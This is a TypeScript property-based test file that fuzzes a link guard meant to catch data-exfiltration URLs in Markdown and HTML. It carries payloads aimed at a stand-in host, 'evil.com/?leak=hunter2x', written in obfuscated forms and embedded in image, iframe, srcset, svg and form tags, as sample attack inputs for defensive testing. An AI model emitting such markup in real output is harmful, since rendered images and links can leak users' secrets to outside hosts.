import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { unite } from '../../src/core/edits.ts'
import { links } from '../../src/guards/links/index.ts'
import { firstBreach, inspectWhole, ports } from '../guard-law.ts'
import { times } from '../seed.ts'
import { inHtml, inMarkdown } from './readers.ts'

const guard = await links.open(links.config.parse({ allow: ['allowed.org'] }) as never, ports)

const bad = fc.constantFrom(
  'https://evil.com/?leak=hunter2x',
  '//evil.com/?leak=hunter2x',
  'http://evil.com:81/a(b)?leak=hunter2x',
  'https:/\\evil.com/?leak=hunter2x',
  'HTTPS://evil.com/?leak=hunter2x&amp;b=c',
  '&#104;ttps://evil.com/?leak=hunter2x',
)
const piece = fc.oneof(
  { weight: 3, arbitrary: bad },
  {
    weight: 8,
    arbitrary: fc.constantFrom(
      ...[
        '![',
        '[',
        ']',
        '(',
        ')',
        '](',
        '](<',
        '>',
        '<',
        '!',
        '\\',
        '"',
        "'",
        ' ',
        '\n',
        '\n\n',
        'a',
        '`',
        '*',
      ],
      ...[
        '[r]',
        '[r]: ',
        '![r]',
        '][r]',
        '[]',
        ' "t"',
        ' =1x2',
        '~',
        '_',
        '&lt;',
        '\t',
        '/>',
        '= ',
        '<!--',
        '-->',
      ],
      ...[
        'evil.com/?leak=hunter2x',
        'a.evil.com',
        'www.',
        '.',
        '@',
        '//',
        'https\\:',
        '&colon;',
        '&period;',
        ':8080',
        '@import "',
        'url(',
      ],
    ),
  },
  {
    weight: 5,
    arbitrary: fc.constantFrom(
      ...[
        '<img src=',
        '<img alt="',
        '" src="',
        "' src='",
        '<a href="',
        '<a href=',
        '<iframe src="',
        '<p ',
        '</a>',
      ],
      ...[
        '<img srcset="a 1x, ',
        ' 2x">',
        '<svg><image xlink:href="',
        '<video poster=',
        '<form action="',
        '<x-y ',
      ],
    ),
  },
)
const whole = fc.oneof(
  fc
    .tuple(
      fc.constantFrom('![a](', '[a](', '![a](<', '<img src="', '<a href="', '[r]: '),
      bad,
      fc.constantFrom(')', '>)', '">', ' "t")', '\n'),
    )
    .map((parts) => parts.join('')),
  piece,
)
const document = fc.array(whole, { maxLength: 12 }).map((pieces) => pieces.join(''))

/** What of a document's addresses is left once everything that was found is taken out. */
async function left(text: string) {
  const { hits } = await inspectWhole(guard, text)
  let clean = ''
  let at = 0
  const edits = hits.map(({ span: [start, end], edit }) => ({
    start,
    end,
    replace: edit !== undefined && 'replace' in edit ? edit.replace : '',
    order: 0,
  }))
  for (const { start, end, replace } of unite(edits)) {
    clean += text.slice(at, start) + replace
    at = end
  }
  clean += text.slice(at)
  return [...inMarkdown(clean), ...inHtml(clean)].filter(({ href }) => new URL(href).hostname === 'evil.com')
}

describe('what readers of Markdown and HTML find', () => {
  it('is found', async () => {
    await fc.assert(
      fc.asyncProperty(document, async (text) => {
        const { hits } = await inspectWhole(guard, text)
        const seen = [...inMarkdown(text), ...inHtml(text)].filter(({ href }) => href.includes('evil.com'))
        if (seen.length > 0) expect(hits.length).toBeGreaterThan(0)
        if (seen.some(({ loaded }) => loaded)) expect(hits.map(({ code }) => code)).toContain('exfil.image')
      }),
      { numRuns: times(2000) },
    )
  })

  it('is gone from the edited text', async () => {
    await fc.assert(
      fc.asyncProperty(document, async (text) => {
        expect((await left(text)).filter(({ loaded }) => loaded)).toEqual([])
      }),
      { numRuns: times(2000) },
    )
  })

  it('is found however the text is cut', async () => {
    await fc.assert(
      fc.asyncProperty(document, async (text) => {
        expect(await firstBreach(guard, text, { random: 10 })).toBeUndefined()
      }),
      { numRuns: times(100) },
    )
  })
})
